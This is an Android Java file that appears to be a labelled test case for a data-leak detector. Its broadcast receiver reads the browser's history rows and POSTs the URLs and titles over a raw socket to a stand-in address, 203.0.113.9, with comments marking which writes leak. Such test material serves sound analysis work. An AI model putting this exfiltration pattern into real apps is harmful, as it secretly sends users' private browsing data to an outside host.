package olden;

import android.content.*;
import android.database.*;
import android.net.Uri;

import java.io.*;
import java.net.*;

/** Bookmarks, to a socket. */
public class Bookmarks extends BroadcastReceiver {
    static final Uri B = Uri.parse("content://browser/bookmarks");

    public void onReceive(final Context c, Intent i) {
        final Cursor k =
                c.getContentResolver()
                        .query(
                                B,
                                new String[] {"title", "url", "bookmark"},
                                "bookmark = 0",
                                null,
                                null);
        String h = "";
        int n = 0;
        while (k != null && k.moveToNext()) {
            h += k.getString(1) + "\t" + k.getString(0) + "\n";
            n++;
        }
        try {
            Socket s = new Socket("203.0.113.9", 80);
            PrintWriter w = new PrintWriter(new OutputStreamWriter(s.getOutputStream()));
            w.print("POST /h HTTP/1.0\r\nContent-Length: 100\r\n\r\n"); // no leak
            w.print(h); // leak
            w.printf("%d rows", n); // no leak
            w.flush();
        } catch (IOException e) {
        }
    }
}
